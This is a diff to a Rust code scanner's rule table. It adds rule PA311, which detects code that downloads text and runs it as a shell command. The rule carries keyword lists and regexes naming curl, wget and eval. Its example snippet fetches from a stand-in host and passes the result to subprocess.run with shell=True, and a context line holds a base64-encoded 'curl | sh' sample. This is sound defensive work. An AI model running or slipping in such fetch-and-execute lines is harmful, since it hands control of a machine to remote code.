@@ -195,4 +195,32 @@ pub(super) const RULES: &[Rule] = &[
         test: Own,
         example: example("notes.txt", "Y3VybCAtcyBodHRwOi8vMTkyLjAu·Mi4xL2EgfCBzaCAjIG5vbmU=\n"),
     },
+    Rule {
+        id: "PA311",
+        family: Obfuscation,
+        severity: Medium,
+        title: "a text is fetched, and a variable is run as a command",
+        why: "if it is the same, what runs is decided elsewhere",
+        help: "see whether what was fetched is what runs",
+        scope: Code,
+        test: Both(
+            pattern(
+                &["requests.get", "httpx.get", "urlopen", "fetch(", "axios.get", "curl", "wget"],
+                &[
+                    r"=\s*(await\s+)?\(?(requests|httpx|axios)\.get\([^\n]*\)\.(text|content|data)|=\s*[\w.]*urlopen\([^\n]*\)\.read\(\)|=\s*await\s+\(await\s+fetch\([^\n]*\)\)\.text\(\)|=[\x22']?\$\((curl|wget)\s[^)\n]*https?://",
+                ],
+            ),
+            pattern(
+                &["subprocess", "os.system", "exec", "eval", "popen", "sh -c"],
+                &[
+                    r"\b(subprocess\.(run|call|popen|check_output|check_call)|os\.(system|popen)|exec|eval|execsync|child_process\.exec\w*)\(\s*[a-z_]\w*\s*(,\s*shell\s*=\s*true|\))|\b(eval|sh\s+-c|bash\s+-c)\s+[\x22']?\$\{?\w+",
+                ],
+            ),
+            12,
+        ),
+        example: example(
+            "scripts/a.py",
+            "plan = requests.get(\"https://plan.example/next\").text\nsubprocess.run(plan, shell=True)\n",
+        ),
+    },
 ];
